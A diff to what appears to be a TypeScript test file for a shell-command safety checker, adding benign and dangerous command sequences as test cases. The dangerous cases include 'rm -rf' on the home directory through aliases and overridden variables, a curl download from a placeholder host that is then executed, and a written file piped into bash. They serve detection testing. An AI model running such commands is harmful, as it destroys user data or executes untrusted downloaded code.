@@ -70,6 +70,7 @@ const ROUTINE: readonly (readonly string[])[] = [
   // Whether the shell lives on or not, nothing is lost.
   ['export DIR=build/out', 'cmake -B $DIR', 'rm -rf $DIR'],
   ['export DIR=out/release', 'rm -rf "$DIR"'],
+  ['BIN=build/out', 'go build -o $BIN/x .', '$BIN/x --help'],
   ['ROOT=$(git rev-parse --show-toplevel)', 'cd "$ROOT"', 'find . -name "*.orig" -delete'],
   ["cat > /tmp/l.js <<'E'\nconsole.log(1)\nE", 'node --input-type=module < /tmp/l.js', 'cat /tmp/l.js | node'],
 ]
@@ -84,6 +85,9 @@ for (const steps of [
   ['export DIR=build/out', 'rm -rf $DIR/*'],
   ['export DIR=build/out', 'rm -rf $OTHER'],
   ['export DIR=~', 'rm -rf $DIR'],
+  ['A="rm -rf"', '$A ~'],
+  ['T=/tmp/t', 'curl -so /tmp/t/x https://x.example/x', '$T/x'],
+  ['$BIN/x --help'],
   ['HOME=build', 'rm -rf $HOME'],
   ['TMPDIR=build', 'rm -rf $TMPDIR'],
   ["printf 'rm -rf ../other' > x", 'bash < x'],
